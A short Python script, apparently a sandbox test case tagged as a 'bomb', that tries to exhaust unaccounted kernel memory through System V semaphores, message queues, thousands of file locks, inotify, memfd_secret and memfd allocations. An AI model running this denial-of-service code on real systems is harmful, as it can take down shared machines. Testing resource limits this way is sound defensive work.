# intent: System V semaphores, message queues, a million file locks, watches of files: memory of the kernel's that counts for no process
# family: bombs
# danger: yes
# stock: not run: it would take this machine down
# before: 500 MB of semaphores, 186 MB of locks; watches too

# %%
import ctypes
import fcntl
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)

def semaphores():
    return [libc.semget(0, 32_000, 0o600) for _ in range(20)]

def queues():
    return [libc.msgget(0, 0o600)]

def locks():
    file = open("own", "a+b")
    for number in range(20_000):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * number)
    return [0]

def watches():
    return [libc.inotify_init1(0)]

def secrets():
    return [libc.syscall(447, 0)]

def files():
    return [os.memfd_create("x")]

def zero():
    return [len(mmap.mmap(os.open("/dev/zero", os.O_RDWR), 4096))]

for attempt in (semaphores, queues, locks, watches, secrets, files, zero):
    try:
        made = attempt()
        if min(made) >= 0:
            print("the-attack" + "-worked", attempt.__name__)
    except OSError as error:
        print(attempt.__name__, error)
